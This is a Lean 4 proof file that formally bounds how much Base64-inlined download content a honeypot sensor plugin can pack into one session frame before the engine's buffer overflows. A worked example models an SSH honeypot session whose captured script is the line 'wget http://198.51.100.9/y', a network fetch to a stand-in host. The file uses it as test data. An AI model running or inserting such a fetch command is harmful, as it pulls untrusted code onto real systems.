import C2Engine.Ingest.Stream
import C2Engine.Sensor.BytesOnWire
import Mathlib.Algebra.Group.Action.Defs
import Mathlib.Algebra.Order.BigOperators.Group.List
import Mathlib.Algebra.Order.Ring.Nat

/-!
# The size of a session document

The plugin bounds the bytes it inlines of one file, and not those of a session. Both unpackers of
the engine take no more than 256 MiB, the one of the connection and the one of the entries of a
packed frame; the document of a session with many downloads is longer, and no packed frame with it
can be received.

While a frame arrives the unpacker of the connection takes its heads out of the buffer, but a blob
only as a whole, so the buffer has to hold the blob and what comes in one piece with the end of it.

## Main definitions

* `inlinedLength`: the Base64 text in a document.
* `Received`: the bytes of a frame are handled as that frame, in whatever pieces they come.
* `FitsBuffer`: a document that is received.
* `Framed`: the bytes of a frame with a blob.
* `Output.groups`, `Output.inlinedGroups`: the groups of three bytes the plugin inlines.

## Main results

* `inlinedLength_closeMeta`: the text by the sizes of the files.
* `Framed.received_iff`: the frames that are received.
* `fitsBuffer_iff`: the documents that are received.
* `not_fitsBuffer_downloads`: thirty-nine downloads of 5 MiB.
-/

namespace C2Engine.Sensor

open Python Python.Msgpack

/-- The length of the Base64 texts of the files of a document. -/
def inlinedLength (files : List FileData) : ℕ :=
  (files.map fun g => (g.contentB64.getD []).length).sum

/-- The bytes of a frame are handled as that frame, in whatever pieces `recv` returns them. -/
def Received (codecs : Codecs) (frame : Obj) (bytes : Bytes) : Prop :=
  ∀ pieces : List Bytes, pieces.flatten = bytes →
    (∀ data ∈ pieces, data ≠ [] ∧ data.length ≤ recvSize) →
      ∀ handler w, (handleStream codecs handler pieces).run w =
        (handle codecs handler [.ok frame]).run w

/-- **A document fits the buffer**: its Base64 text is shorter than the buffer of the engine, the
frame with it is received, and its records can be read. -/
structure FitsBuffer (codecs : Codecs) (files : List FileData) (frame : Obj) (bytes : Bytes) :
    Prop where
  inlined : inlinedLength files < maxBuffer
  received : Received codecs frame bytes
  parsed : (parseFrame codecs frame).isOk

/-- The bytes of a frame with a blob: the heads in front of it, the blob, and what stands behind it.
The unpacker has taken the heads out of its buffer when the blob begins, and the blob when it is
there as a whole; the frame without the blob is small. -/
structure Framed (codecs : Codecs) (frame : Obj) (before blob behind : Bytes) : Prop where
  read : ∀ rest, codecs.unpacker.read (before ++ blob ++ behind ++ rest) = .value frame rest
  held_part : ∀ part, part <+: blob → part ≠ blob →
    codecs.unpacker.held (before ++ part) = part.length
  held_behind : ∀ part, part <+: behind →
    codecs.unpacker.held (before ++ blob ++ part) ≤ part.length
  before_le : before.length + recvSize ≤ maxBuffer
  behind_le : behind.length ≤ maxBuffer

/-- The groups of three bytes, the last one begun, that the plugin inlines of a file. -/
def Output.groups (out : Output) (disk : Disk) (g : FileData) : ℕ :=
  (out.inlined? disk g).elim 0 fun data => (data.length + 2) / 3

/-- The groups that the plugin inlines at the close of a session. -/
def Output.inlinedGroups (out : Output) (disk : Disk) (m : SessionMeta) : ℕ :=
  if out.inlineBytes then (m.files.map (out.groups disk)).sum else 0

variable {out : Output} {disk : Disk} {g : FileData} {data : Bytes}

theorem inlined?_eq_some_iff : out.inlined? disk g = some data ↔ out.Inlines disk g data := by
  unfold Output.inlined?
  constructor
  · intro h
    split_ifs at h with hfile
    obtain ⟨haction, hstatus, houtfile⟩ := hfile
    cases hread : disk g.outfile with
    | content data' =>
      rw [hread] at h
      by_cases hle : (data'.length : ℤ) ≤ out.inlineMax
      · simp only [if_pos hle, Option.some.injEq] at h
        exact ⟨haction, hstatus, houtfile, h ▸ hread, h ▸ hle⟩
      · simp only [if_neg hle] at h
        cases h
    | osError =>
      rw [hread] at h
      cases h
    | raised e =>
      rw [hread] at h
      cases h
  · rintro ⟨haction, hstatus, houtfile, hread, hle⟩
    rw [if_pos ⟨haction, hstatus, houtfile⟩, hread]
    simp only [if_pos hle]

/-! ### The length of the text -/

/-- The Base64 text of one file. -/
theorem length_contentB64 {g' : FileData} (hnew : g.contentB64 = none)
    (h : out.inlineFile disk g = .ok g') :
    (g'.contentB64.getD []).length = 4 * out.groups disk g := by
  cases hin : out.inlined? disk g with
  | some data =>
    rw [inlineFile_of_inlines (inlined?_eq_some_iff.mp hin)] at h
    obtain rfl := Except.ok.inj h
    rw [Output.groups, hin]
    exact length_b64encode data
  | none =>
    have hnot : ∀ data, ¬ out.Inlines disk g data := by
      intro data hdata
      rw [inlined?_eq_some_iff.mpr hdata] at hin
      cases hin
    obtain rfl := inlineFile_of_not_inlines h hnot
    rw [Output.groups, hin, hnew]
    rfl

/-- **The text by the sizes of the files**: four characters for each group of three bytes. -/
theorem inlinedLength_eq {files files' : List FileData} (hnew : ∀ g ∈ files, g.contentB64 = none)
    (h : out.inlineDownloadBytes disk files = .ok files') :
    inlinedLength files' = 4 * (files.map (out.groups disk)).sum := by
  rw [Output.inlineDownloadBytes] at h
  induction files generalizing files' with
  | nil =>
    obtain rfl := Except.ok.inj h
    rfl
  | cons g files ih =>
    obtain ⟨hg, hfiles⟩ := List.forall_mem_cons.mp hnew
    rw [List.mapM_cons] at h
    obtain ⟨g', hg', h⟩ := bind_eq_ok.mp h
    obtain ⟨rest, hrest, h⟩ := bind_eq_ok.mp h
    obtain rfl := Except.ok.inj h
    rw [inlinedLength, List.map_cons, List.sum_cons, length_contentB64 hg hg', List.map_cons,
      List.sum_cons, Nat.mul_add, ← ih hfiles hrest]
    rfl

/-- The text in the document of a session that closes. -/
theorem inlinedLength_closeMeta {m m' : SessionMeta} {e : Entry}
    (hnew : ∀ g ∈ m.files, g.contentB64 = none) (h : out.closeMeta disk e m = .ok m') :
    inlinedLength m'.files = 4 * out.inlinedGroups disk m := by
  obtain ⟨endTime, -, h⟩ := bind_eq_ok.mp h
  rw [Output.inlinedGroups]
  cases hinline : out.inlineBytes with
  | true =>
    rw [hinline] at h
    obtain ⟨files, hfiles, h⟩ := bind_eq_ok.mp h
    obtain rfl := Except.ok.inj h
    exact inlinedLength_eq hnew hfiles
  | false =>
    rw [hinline] at h
    obtain rfl := Except.ok.inj h
    have hzero : m.files.map (fun g => (g.contentB64.getD []).length) = m.files.map fun _ => 0 :=
      List.map_congr_left fun g hg => by rw [hnew g hg]; rfl
    rw [inlinedLength]
    dsimp only
    rw [hzero, List.map_const', List.sum_replicate_nat]
    rfl

/-! ### The document in the packed entries -/

mutual

/-- The number of characters of the texts in a value. -/
def textLength : Obj → ℕ
  | .str s => s.length
  | .list xs => textLengthList xs
  | .map d => textLengthItems d
  | _ => 0

/-- The elements of a list. -/
def textLengthList : List Obj → ℕ
  | [] => 0
  | x :: xs => textLength x + textLengthList xs

/-- The values of a dictionary. -/
def textLengthItems : List (Key × Obj) → ℕ
  | [] => 0
  | kv :: d => textLength kv.2 + textLengthItems d

end

theorem textLength_le_of_mem {d : List (Key × Obj)} {kv : Key × Obj} (h : kv ∈ d) :
    textLength kv.2 ≤ textLengthItems d := by
  induction h with
  | head d => exact Nat.le_add_right _ _
  | tail _ _ ih => exact ih.trans (Nat.le_add_left _ _)

theorem inlinedLength_le_textLengthList : (files : List FileData) →
    inlinedLength files ≤ textLengthList (files.map FileData.toObj)
  | [] => le_rfl
  | g :: files => by
      have hfile : (g.contentB64.getD []).length ≤ textLength g.toObj := by
        cases hb64 : g.contentB64 with
        | none => exact Nat.zero_le _
        | some text =>
          have hmem : (key "content_b64", Obj.str text) ∈
              [(key "url", g.url), (key "outfile", g.outfile), (key "shasum", g.shasum),
                (key "action", .str g.action), (key "status", .str g.status),
                (key "resolved_ip", g.resolvedIp)] ++
                (g.contentB64.map fun text => (key "content_b64", Obj.str text)).toList := by
            rw [hb64]
            exact List.mem_append_right _ List.mem_cons_self
          exact textLength_le_of_mem hmem
      exact Nat.add_le_add hfile (inlinedLength_le_textLengthList files)

/-- The Base64 text is a part of the texts of the document. -/
theorem inlinedLength_le_toDict {m : SessionMeta} {record : Dict}
    (h : m.toDict out ⊆ record) : inlinedLength m.files ≤ textLength (.map record) := by
  obtain ⟨hpData, hmem, hfiles⟩ : ∃ hpData, (key "hp_data", Obj.map hpData) ∈ m.toDict out ∧
      (key "files", .list (m.files.map FileData.toObj)) ∈ hpData := by
    refine ⟨_, List.mem_of_getElem? (i := 9) rfl, List.mem_of_getElem? (i := 7) rfl⟩
  exact (inlinedLength_le_textLengthList m.files).trans
    ((textLength_le_of_mem hfiles).trans (textLength_le_of_mem (h hmem)))

/-! ### The frame on the wire -/

/-- What is a part of two lists one after the other. -/
theorem prefix_append_cases {xs ys p : Bytes} (h : p <+: xs ++ ys) :
    p <+: xs ∨ ∃ part, part <+: ys ∧ p = xs ++ part := by
  rcases List.prefix_or_prefix_of_prefix h (List.prefix_append xs ys) with h' | ⟨part, rfl⟩
  · exact .inl h'
  · exact .inr ⟨part, (List.prefix_append_right_inj xs).mp h, rfl⟩

/-- Bytes that arrive one by one. -/
def single (bytes : Bytes) : List Bytes := bytes.map fun b => [b]

theorem flatten_single (bytes : Bytes) : (single bytes).flatten = bytes := by
  rw [single, ← List.flatMap_def, List.flatMap_singleton']

theorem size_of_mem_single {bytes data : Bytes} (h : data ∈ single bytes) :
    data ≠ [] ∧ data.length ≤ recvSize := by
  obtain ⟨b, -, rfl⟩ := List.mem_map.mp h
  exact ⟨List.cons_ne_nil _ _, Nat.le_of_ble_eq_true rfl⟩

section Framed

variable {codecs : Codecs} {frame : Obj} {before blob behind : Bytes}

/-- The handler of a connection survives whatever a frame makes it do. -/
theorem fst_run_handle (handler : RecordHandler) (frame : Obj) (w : Wire) :
    ((handle codecs handler [.ok frame]).run w).1 = .ok () := by
  have hframe : ((handleFrame codecs handler frame).run w).1.isOk := by
    rw [handleFrame]
    rcases hrun : (dispatch codecs handler frame >>= fun _ => pure true).run w with ⟨e | goOn, w'⟩
    · rw [Prog.run_tryExcept_of_catch hrun rfl]
      rfl
    · rw [Prog.run_tryExcept_of_ok hrun]
      rfl
  rw [handle, Prog.run_bind]
  rcases hrun : (handleFrame codecs handler frame).run w with ⟨e | _ | _, w'⟩
  · rw [hrun] at hframe
    cases hframe
  · rfl
  · rfl

/-- The room that the parts of the frame take, with a piece behind them. -/
theorem Framed.held_le (h : Framed codecs frame before blob behind)
    (hsize : blob.length + min behind.length (recvSize - 1) ≤ maxBuffer) {p data : Bytes}
    (hp : p ++ data <+: before ++ blob ++ behind) (hdata : data.length ≤ recvSize) :
    codecs.unpacker.held p + data.length ≤ maxBuffer := by
  have hlength := hp.length_le
  have hbefore := h.before_le
  rw [List.length_append, List.length_append, List.length_append] at hlength
  rcases prefix_append_cases ((List.prefix_append p data).trans hp) with hfront | ⟨part, hpart, rfl⟩
  · rcases prefix_append_cases hfront with hfront | ⟨part, hpart, rfl⟩
    · have hheld := codecs.unpacker.held_le p
      have := hfront.length_le
      omega
    · have := hpart.length_le
      rw [List.length_append] at hlength
      by_cases hwhole : part = blob
      · -- the blob is there
        subst hwhole
        have hheld := h.held_behind [] (List.nil_prefix)
        rw [List.append_nil, List.length_nil] at hheld
        unfold recvSize at hbefore hdata
        omega
      · have hheld := h.held_part part hpart hwhole
        have hshorter : part.length < blob.length := by
          refine lt_of_le_of_ne hpart.length_le fun heq => hwhole ?_
          exact hpart.eq_of_length heq
        unfold recvSize at hsize hdata
        omega
  · have hheld := h.held_behind part hpart
    have := h.behind_le
    rw [List.length_append, List.length_append] at hlength
    omega

/-- **The frames that are received**: the buffer has room for the blob and what comes with its
end. -/
theorem Framed.received_iff (h : Framed codecs frame before blob behind) (hne : blob ≠ []) :
    Received codecs frame (before ++ blob ++ behind) ↔
      blob.length + min behind.length (recvSize - 1) ≤ maxBuffer := by
  have hwhole : codecs.unpacker.unpack (before ++ blob ++ behind) = .ok ([frame], []) := by
    have hread := h.read []
    rw [List.append_nil] at hread
    rw [Reader.unpack_of_value hread, Reader.unpack_of_incomplete codecs.unpacker.read_nil]
    rfl
  have hempty : codecs.unpacker.unpack [] = .ok ([], []) :=
    Reader.unpack_of_incomplete codecs.unpacker.read_nil
  constructor
  · -- all but the last byte of the blob byte by byte, and then as much as `recv` returns
    intro hreceived
    by_contra hfull
    set last := min behind.length (recvSize - 1)
    obtain ⟨begun, b, rfl⟩ : ∃ begun b, blob = begun ++ [b] :=
      ⟨blob.dropLast, blob.getLast hne, (List.dropLast_append_getLast hne).symm⟩
    have hlast : last ≤ recvSize - 1 := Nat.min_le_right _ _
    have hbegun : begun <+: begun ++ [b] := List.prefix_append _ _
    have hshort : begun ≠ begun ++ [b] := fun heq => by simpa using congrArg List.length heq
    have hfront : before ++ begun <+: before ++ (begun ++ [b]) ++ behind :=
      ((List.prefix_append_right_inj before).mpr hbegun).trans (List.prefix_append _ _)
    have hheld := h.held_part begun hbegun hshort
    have hrun := @StreamReader.receive_full codecs.unpacker _
      (handleFrame codecs fun _ _ => pure ()) maxBuffer (single (before ++ begun))
      (b :: behind.take last) (single (behind.drop last))
      (fun p hp => (size_of_mem_single hp).1) (List.cons_ne_nil _ _) [] (fun p hp => ?_) ?_
    · have hpieces := hreceived (single (before ++ begun) ++ (b :: behind.take last) ::
        single (behind.drop last)) ?_ ?_ (fun _ _ => pure ()) ⟨fun _ => .unreachable, []⟩
      · have hfst := congrArg Prod.fst hpieces
        rw [fst_run_handle, handleStream, hrun] at hfst
        cases hfst
      · rw [List.flatten_append, flatten_single, List.flatten_cons, flatten_single,
          List.cons_append, List.take_append_drop]
        simp
      · intro data hdata
        rcases List.mem_append.mp hdata with hdata | hdata
        · exact size_of_mem_single hdata
        rcases List.mem_cons.mp hdata with rfl | hdata
        · refine ⟨List.cons_ne_nil _ _, ?_⟩
          have := List.length_take_le last behind
          rw [List.length_cons]
          unfold recvSize at hlast ⊢
          omega
        · exact size_of_mem_single hdata
    · rw [flatten_single] at hp
      refine StreamReader.read_of_part h.read (hp.trans hfront) ?_
      rintro rfl
      have := hp.length_le
      simp only [List.length_append, List.length_singleton] at this
      omega
    · rw [flatten_single, List.nil_append, hheld, List.length_cons, List.length_take]
      rw [List.length_append, List.length_singleton] at hfull
      omega
  · intro hsize pieces hpieces hsizes handler w
    have hroom : ∀ p data vs rest, p ++ data <+: [] ++ pieces.flatten → data.length ≤ recvSize →
        codecs.unpacker.unpack p = .ok (vs, rest) →
        codecs.unpacker.held rest + data.length ≤ maxBuffer := by
      intro p data vs rest hp hdata hunpack
      rw [List.nil_append, hpieces] at hp
      by_cases hall : p = before ++ blob ++ behind
      · rw [hall, hwhole, Except.ok.injEq, Prod.mk.injEq] at hunpack
        rw [← hunpack.2]
        have hheld := codecs.unpacker.held_le []
        rw [List.length_nil] at hheld
        unfold recvSize at hdata
        unfold maxBuffer
        omega
      · have hpart := StreamReader.read_of_part h.read ((List.prefix_append p data).trans hp) hall
        obtain ⟨-, rfl⟩ := StreamReader.unpack_of_incomplete_eq hpart hunpack
        exact h.held_le hsize hp hdata
    have hitems : codecs.unpacker.items (before ++ blob ++ behind) = [.ok frame] := by
      have := StreamReader.items_append_of_unpack [] hwhole
      rwa [List.append_nil, List.append_nil, StreamReader.items_of_incomplete
        codecs.unpacker.read_nil] at this
    rw [handleStream, StreamReader.receive_eq hempty hsizes hroom, List.nil_append, hpieces, hitems,
      handle_eq_consume]

end Framed

/-! ### The documents that are received -/

/-- The packed entries are longer than the text in a document among them. -/
theorem inlinedLength_lt_eventBlob {packb : Obj → Bytes} {events : List (Obj × Dict)}
    {m : SessionMeta} (hevent : ∃ event ∈ events, m.toDict out ⊆ event.2)
    (hfull : ∀ event ∈ events,
      textLength (eventEntry event) < (packb (eventEntry event)).length) :
    inlinedLength m.files < (eventBlob packb events).length := by
  obtain ⟨event, hmem, hdoc⟩ := hevent
  have hentry : textLength (.map event.2) ≤ textLength (eventEntry event) := by
    change _ ≤ textLength event.1 + (textLength (.map event.2) + 0)
    omega
  have hpacked : (packb (eventEntry event)).length ≤ (eventBlob packb events).length := by
    rw [eventBlob, List.length_flatMap]
    exact List.single_le_sum (fun _ _ => Nat.zero_le _) _
      (List.mem_map_of_mem (List.mem_map_of_mem hmem))
  exact ((inlinedLength_le_toDict hdoc).trans hentry).trans_lt ((hfull event hmem).trans_le hpacked)

/-- **The documents that are received**, in a frame whose blob has the entry of the document and is
not compressed: the Base64 text, four characters for each group of three bytes that are inlined, the
`rest` of the blob, and what comes in one piece with the end of it fill the buffer at most. Of
`msgpack` it is used that reading inverts writing and that a text is written in full. -/
theorem fitsBuffer_iff {codecs : Codecs} {packb : Obj → Bytes} {events : List (Obj × Dict)}
    {m m' : SessionMeta} {e : Entry} {tag : PyStr} {option : Option Dict} {frame : Obj}
    {before behind : Bytes} {rest : ℕ} (hnew : ∀ g ∈ m.files, g.contentB64 = none)
    (hclose : out.closeMeta disk e m = .ok m')
    (hevent : ∃ event ∈ events, m'.toDict out ⊆ event.2)
    (hpackb : ∀ event ∈ events, ∀ rest,
      codecs.unpacker.read (packb (eventEntry event) ++ rest) = .value (eventEntry event) rest)
    (hfull : ∀ event ∈ events,
      textLength (eventEntry event) < (packb (eventEntry event)).length)
    (hframe : frame = packedFrame tag option (.bytes (eventBlob packb events)) ∨
      frame = packedFrame tag option (.str (utf8DecodeEscape (eventBlob packb events))))
    (hplain : isCompressed option = false)
    (hframed : Framed codecs frame before (eventBlob packb events) behind)
    (hlength : (eventBlob packb events).length = inlinedLength m'.files + rest) :
    FitsBuffer codecs m'.files frame (before ++ eventBlob packb events ++ behind) ↔
      4 * out.inlinedGroups disk m + rest + min behind.length (recvSize - 1) ≤ maxBuffer := by
  have hlonger := inlinedLength_lt_eventBlob hevent hfull
  have hne : eventBlob packb events ≠ [] := by
    intro hnil
    rw [hnil] at hlonger
    exact Nat.not_lt_zero _ hlonger
  have hreceived := hframed.received_iff hne
  rw [← inlinedLength_closeMeta hnew hclose, ← hlength]
  constructor
  · exact fun h => hreceived.mp h.received
  · intro hsize
    have hpayload : payload codecs (.bytes (eventBlob packb events)) option =
        .ok (eventBlob packb events) := by
      rw [payload, hplain]
      rfl
    have hunpack : codecs.unpackAll (eventBlob packb events) = .ok (events.map eventEntry) := by
      rw [Codecs.unpackAll, Reader.unpackWithin, if_neg (by omega), unpackAll_eventBlob hpackb]
    obtain ⟨hbytes, htext⟩ := parseFrame_packed tag option hpayload hunpack
    refine ⟨by omega, hreceived.mpr hsize, ?_⟩
    rcases hframe with rfl | rfl
    · rw [hbytes]
      rfl
    · rw [htext]
      rfl

/-! ### A session with a download -/

/-- The heads in front of a blob. -/
def blobHeads (tag : PyStr) (blob : Bytes) : Bytes :=
  0x93 :: (packText tag ++ 0xC5 :: packLength blob.length)

/-- The frames of the closed examples. -/
theorem framed_packShort {tag : PyStr} {option : Dict} {blob : Bytes} (htag : isShortText tag)
    (hoption : isShort (.map option)) (hblob : blob.length < 65536)
    (hbefore : (blobHeads tag blob).length ≤ 1024)
    (hbehind : (packShort (.map option)).length ≤ 1024) :
    Framed .basic (packedFrame tag (some option) (.bytes blob)) (blobHeads tag blob) blob
      (packShort (.map option)) := by
  have hheld : ∀ (fuel : ℕ) (data : Bytes), StreamReader.heldShort (fuel + 2)
      (0x93 :: (packText tag ++ data)) = StreamReader.heldShort fuel data := by
    intro fuel data
    have hhead : (Msgpack.Reader.readHead 0x93 (packText tag ++ data)).rest? =
        some (packText tag ++ data) := rfl
    rw [heldShort_of_rest hhead, heldShort_packText htag]
  -- three heads stand in front of the bytes of the blob
  have hfuel : ∀ data : Bytes, ∃ fuel, (0x93 :: (packText tag ++ 0xC5 :: data)).length =
      fuel + 1 + 2 := by
    intro data
    have hpos := length_packText_pos tag
    refine ⟨(packText tag).length - 1 + data.length, ?_⟩
    rw [List.length_cons, List.length_append, List.length_cons]
    omega
  refine ⟨fun rest => ?_, fun part hpart hne => ?_, fun part _ => ?_, ?_, ?_⟩
  · have hshort : isShort (packedFrame tag (some option) (.bytes blob)) := by
      change (true && (isShortText tag && (decide (blob.length < 65536) &&
        (isShort (.map option) && true)))) = true
      rw [htag, hoption, decide_eq_true hblob]
      rfl
    have hread := read_packShort hshort rest
    have hbytes : packShort (packedFrame tag (some option) (.bytes blob)) =
        blobHeads tag blob ++ blob ++ packShort (.map option) := by
      change [_] ++ (packText tag ++ (0xC5 :: packLength blob.length ++ blob ++
        (packShort (.map option) ++ []))) = _
      simp [blobHeads]
    rw [Codecs.basic_unpacker, ← hbytes]
    exact hread
  · have hshorter : part.length < blob.length :=
      lt_of_le_of_ne hpart.length_le fun heq => hne (hpart.eq_of_length heq)
    obtain ⟨fuel, hlength⟩ := hfuel (packLength blob.length ++ part)
    have hdata : blobHeads tag blob ++ part =
        0x93 :: (packText tag ++ 0xC5 :: (packLength blob.length ++ part)) := by
      simp [blobHeads]
    change StreamReader.heldShort (blobHeads tag blob ++ part).length _ = _
    rw [hdata, hlength, hheld, heldShort_part hblob hshorter]
  · obtain ⟨fuel, hlength⟩ := hfuel (packLength blob.length ++ (blob ++ part))
    have hdata : blobHeads tag blob ++ blob ++ part =
        0x93 :: (packText tag ++ 0xC5 :: (packLength blob.length ++ (blob ++ part))) := by
      simp [blobHeads]
    change StreamReader.heldShort (blobHeads tag blob ++ blob ++ part).length _ ≤ _
    rw [hdata, hlength, hheld, heldShort_bytes hblob]
    exact StreamReader.heldShort_le fuel part
  · unfold recvSize maxBuffer
    omega
  · unfold maxBuffer
    omega

/-- A session in which a script was fetched. -/
def fetchedSession : SessionMeta where
  protocol := .str (str "ssh")
  startTime := .str (str "2026-05-28T20:26:40Z")
  srcIp := .str (str "192.0.2.7")
  srcPort := .int 47
  dstIp := .str (str "192.0.2.1")
  dstPort := .int 22
  session := some (str "a1")
  urls := [.str (str "http://192.0.2.1/x")]
  files := [downloaded]

/-- Its close. -/
def fetchedClose : Entry :=
  ⟨some (str "a1"), [(key "timestamp", .str (str "2026-05-28T20:27:00Z"))]⟩

/-- The disk with the script. -/
def fetchedDisk : Disk := fun _ => .content (asciiBytes (str "wget http://198.51.100.9/y"))

/-- The session as it is emitted. -/
def fetchedMeta : SessionMeta :=
  { fetchedSession with
    endTime := .str (str "2026-05-28T20:27:00Z")
    files := [{ downloaded with
      contentB64 := some (b64encode (asciiBytes (str "wget http://198.51.100.9/y"))) }] }

/-- The event with its document. -/
def fetchedEvent : Obj × Dict := (.int 1, fetchedMeta.toDict plugin)

/-- Its packed frame, and the bytes of it. -/
def fetchedFrame : Obj :=
  packedFrame (str "stingar.enrichable.cowrie") (some [(key "chunk", .str (str "c"))])
    (.bytes (eventBlob packShort [fetchedEvent]))

def fetchedBytes : Bytes :=
  blobHeads (str "stingar.enrichable.cowrie") (eventBlob packShort [fetchedEvent]) ++
    eventBlob packShort [fetchedEvent] ++ packShort (.map [(key "chunk", .str (str "c"))])

/-- The document has 36 characters of Base64, for nine groups; they fit the buffer with the rest of
the entry and the option behind it. -/
theorem fitsBuffer_iff_fetched : inlinedLength fetchedMeta.files = 36 ∧
    (FitsBuffer .basic fetchedMeta.files fetchedFrame fetchedBytes ↔
      4 * plugin.inlinedGroups fetchedDisk fetchedSession +
          ((eventBlob packShort [fetchedEvent]).length - 36) +
          min (packShort (.map [(key "chunk", .str (str "c"))])).length (recvSize - 1) ≤
        maxBuffer) := by
  have hinlined : inlinedLength fetchedMeta.files = 36 := by decide +kernel
  have hclose : plugin.closeMeta fetchedDisk fetchedClose fetchedSession = .ok fetchedMeta := rfl
  have hshort : ∀ event ∈ [fetchedEvent], isShort (eventEntry event) := by decide +kernel
  have hpackb : ∀ event ∈ [fetchedEvent], ∀ rest, Codecs.basic.unpacker.read
      (packShort (eventEntry event) ++ rest) = .value (eventEntry event) rest := by
    intro event hevent
    rw [Codecs.basic_unpacker]
    exact read_packShort (hshort event hevent)
  have hlength : (eventBlob packShort [fetchedEvent]).length = inlinedLength fetchedMeta.files +
      ((eventBlob packShort [fetchedEvent]).length - 36) := by
    decide +kernel
  exact ⟨hinlined, fitsBuffer_iff (List.forall_mem_singleton.mpr rfl) hclose
    ⟨fetchedEvent, List.mem_singleton_self _, List.Subset.refl _⟩ hpackb (by decide +kernel)
    (.inl rfl) rfl (framed_packShort (by decide +kernel) (by decide +kernel) (by decide +kernel)
      (by decide +kernel) (by decide +kernel)) hlength⟩

/-! ### How many downloads fit -/

/-- Of up to thirty-eight downloads within the default bound the text is shorter than the buffer. -/
theorem inlinedLength_lt_of_length_le {files files' : List FileData}
    (hnew : ∀ g ∈ files, g.contentB64 = none) (hmax : out.inlineMax ≤ contentInlineMax)
    (h : out.inlineDownloadBytes disk files = .ok files') (hlen : files.length ≤ 38) :
    inlinedLength files' < maxBuffer := by
  have hgroups : ∀ g, out.groups disk g ≤ 1747627 := by
    intro g
    unfold Output.groups
    cases hin : out.inlined? disk g with
    | none => exact Nat.zero_le _
    | some data =>
      have hle := (inlined?_eq_some_iff.mp hin).le_inlineMax
      unfold contentInlineMax at hmax
      dsimp only [Option.elim_some]
      omega
  have hsum : (files.map (out.groups disk)).sum ≤ files.length * 1747627 := by
    have hcard := List.sum_le_card_nsmul (files.map (out.groups disk)) 1747627 fun n hn => by
      obtain ⟨g, -, rfl⟩ := List.mem_map.mp hn
      exact hgroups g
    rwa [List.length_map, smul_eq_mul] at hcard
  rw [inlinedLength_eq hnew h, maxBuffer]
  omega

/-- A file of 5 MiB. -/
def largest : Bytes := List.replicate contentInlineMax 0

theorem length_largest : largest.length = contentInlineMax := List.length_replicate

theorem groups_largest : plugin.groups (fun _ => .content largest) downloaded = 1747627 := by
  have hin := inlined?_eq_some_iff.mpr (inlines_downloaded length_largest.le)
  rw [Output.groups, hin, Option.elim_some, length_largest, contentInlineMax]

/-- **Thirty-nine downloads of 5 MiB do not fit**: the plugin inlines them all, and their text alone
is longer than the buffer. -/
theorem not_fitsBuffer_downloads :
    ∃ files', plugin.inlineDownloadBytes (fun _ => .content largest)
      (List.replicate 39 downloaded) =
        .ok files' ∧
      ∀ codecs frame bytes, ¬ FitsBuffer codecs files' frame bytes := by
  have hinline : plugin.inlineDownloadBytes (fun _ => .content largest)
      (List.replicate 39 downloaded) = .ok ((List.replicate 39 downloaded).map fun g =>
        { g with contentB64 := some (b64encode largest) }) :=
    mapM_eq_ok_map fun g hg => by
      rw [List.eq_of_mem_replicate hg]
      exact inlineFile_of_inlines (inlines_downloaded length_largest.le)
  refine ⟨_, hinline, fun codecs frame bytes h => ?_⟩
  have hnew : ∀ g ∈ List.replicate 39 downloaded, g.contentB64 = none := fun g hg => by
    rw [List.eq_of_mem_replicate hg]
    rfl
  have hsum : ((List.replicate 39 downloaded).map
      (plugin.groups fun _ => .content largest)).sum = 39 * 1747627 := by
    rw [List.map_replicate, groups_largest, List.sum_replicate_nat]
  have hlt := h.inlined
  rw [inlinedLength_eq hnew hinline, hsum, maxBuffer] at hlt
  omega

end C2Engine.Sensor
